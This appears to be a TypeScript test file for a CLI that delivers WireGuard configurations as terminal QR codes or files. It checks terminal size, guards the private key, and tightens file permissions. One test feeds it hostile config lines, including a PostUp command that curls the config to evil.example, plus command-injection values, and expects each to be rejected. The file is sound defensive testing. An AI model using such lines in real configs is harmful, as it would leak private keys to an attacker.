/** A configuration as a QR code: only where a camera can read it whole, and with what a machine needs of it. */
import assert from 'node:assert/strict';
import { chmodSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { type TestContext, test } from 'node:test';
import { Secret } from '../../base/secret.ts';
import { Outbound } from '../../base/net/outbound/outbound.ts';
import type { Asked } from '../client/api-command.ts';
import { ConfigDelivery } from './config-delivery.ts';
import { tempHome } from '../fixtures/program.ts';
import { type Io, processIo } from '../terminal/io.ts';
import { qrCode } from '../terminal/qr-code.ts';

const KEY = 'dwdtCnMYpX08FsFyUbJmRd9MLw+HrJkqsXf7pR25LCo=';
const CONFIG = '# phone\n[Interface]\n# not known here\nPrivateKey = PLACE\nAddress = 10.80.0.2/32\n\n[Peer]\n';
/** What of it is drawn. */
const BARE = `[Interface]\nPrivateKey = ${KEY}\nAddress = 10.80.0.2/32\n[Peer]`;

interface Terminal {
  readonly columns: number;
  readonly rows: number;
}

/** A command on a terminal of this size; undefined: on none. */
function onTerminal(
  t: TestContext,
  size: Terminal | undefined,
  env: NodeJS.ProcessEnv = {},
): { asked: Asked; said(): string } {
  const written = new PassThrough({ encoding: 'utf8' });
  const stdout: Io['stdout'] = size === undefined ? written : Object.assign(written, { isTTY: true, ...size });
  const io = { ...processIo(), stdout, stderr: new PassThrough(), cwd: tempHome(t), env: { LANG: 'C.UTF-8', ...env } };
  const never = (): never => assert.fail('nothing is asked');
  const asked: Asked = {
    args: [],
    flags: { qr: true },
    io,
    server: new URL('http://127.0.0.1'),
    outbound: new Outbound(),
    isMaster: false,
    call: never,
    answerTo: never,
    bytes: never,
    page: never,
    accessToken: never,
  };
  return { asked, said: () => String(written.read() ?? '') };
}

const size = (columns: number, rows: number): Terminal => ({ columns, rows });

test('the code is drawn with the key and without the remarks, and nothing else stands on standard output', async (t) => {
  const { asked, said } = onTerminal(t, size(80, 40));
  const delivery = await ConfigDelivery.prepare(asked);
  await delivery.deliver({ render: () => Promise.resolve(CONFIG), key: new Secret(KEY), answer: {} });
  assert.equal(said(), `${qrCode(BARE, { color: true }).lines.join('\n')}\n`);
  const plain = onTerminal(t, size(80, 40), { NO_COLOR: '1' });
  const uncoloured = await ConfigDelivery.prepare(plain.asked);
  await uncoloured.deliver({ render: () => Promise.resolve(CONFIG), key: new Secret(KEY), answer: {} });
  assert.equal(plain.said(), `${qrCode(BARE, { color: false }).lines.join('\n')}\n`);
});

test('QR code: a small terminal fails with the size it needs, before any request', async (t) => {
  const { columns, lines } = qrCode(BARE, { color: true });
  const fits = size(columns, lines.length + 1);
  for (const [room, isEnough] of [
    [fits, true],
    [size(fits.columns - 1, 100), false],
    [size(200, fits.rows - 1), false],
  ] as const) {
    const delivery = await ConfigDelivery.prepare(onTerminal(t, room).asked);
    const check = (): void => delivery.checkRoom(BARE);
    const needs = `needs ${fits.columns} columns and ${fits.rows} lines, and this terminal has ${room.columns} and ${room.rows}`;
    if (isEnough) check();
    else assert.throws(check, new RegExp(needs));
  }
});

test('a code that is larger than it was to be says how to go on, for the key in it is lost', async (t) => {
  const { asked, said } = onTerminal(t, size(40, 20));
  const delivery = await ConfigDelivery.prepare(asked);
  const config = { render: () => Promise.resolve(CONFIG), key: new Secret(KEY), answer: {}, lost: 'Enroll it anew' };
  await assert.rejects(delivery.deliver(config), /the code needs \d+ columns .* Enroll it anew$/);
  assert.equal(said(), '');
});

test('where there is no terminal, or none for UTF-8, no code is drawn unless it is forced', async (t) => {
  for (const [{ asked }, message] of [
    [onTerminal(t, undefined), /standard output is not a terminal, and the code contains the private key/],
    [onTerminal(t, size(200, 200), { TERM: 'dumb' }), /standard output is not a terminal/],
    [onTerminal(t, size(200, 200), { LC_ALL: 'C' }), /does not use UTF-8/],
  ] as const) {
    await assert.rejects(ConfigDelivery.prepare(asked), message);
    const forced = await ConfigDelivery.prepare({ ...asked, flags: { qr: true, force: true } });
    forced.checkRoom(BARE);
  }
});

test('configuration: commands and unknown lines from the server are rejected', async (t) => {
  const command = 'PostUp = curl https://evil.example/$(cat /etc/wireguard/home.conf)';
  for (const line of [
    command,
    `postup=${command}`,
    ' PreDown = true',
    'SaveConfig = true',
    'Table = off',
    'DNS = $(true)',
    'Endpoint = a;b',
    '[Interface] PostUp = true',
    '# remark\rPostUp = true',
    'MTU = 1400 # PostUp',
  ]) {
    const { asked, said } = onTerminal(t, size(200, 100));
    const delivery = await ConfigDelivery.prepare({ ...asked, flags: { output: 'home.conf' } });
    const render = (): Promise<string> => Promise.resolve(`${CONFIG}${line}\n`);
    await assert.rejects(
      delivery.deliver({ render, key: new Secret(KEY), answer: {} }),
      /is rejected: line 8 \("/,
      line,
    );
    await delivery.close();
    assert.deepEqual([said(), readdirSync(asked.io.cwd)], ['', []]);
  }
});

test('configuration: a replaced file loses its readers', async (t) => {
  const { asked } = onTerminal(t, size(80, 40));
  const file = join(asked.io.cwd, 'wg0.conf');
  writeFileSync(file, 'planted');
  chmodSync(file, 0o664);
  const delivery = await ConfigDelivery.prepare({ ...asked, flags: { output: 'wg0.conf', force: true } });
  await delivery.deliver({ render: () => Promise.resolve(CONFIG), key: new Secret(KEY), answer: {} });
  assert.equal(readFileSync(file, 'utf8').includes(KEY), true);
  assert.equal(statSync(file).mode & 0o777, 0o600);
});
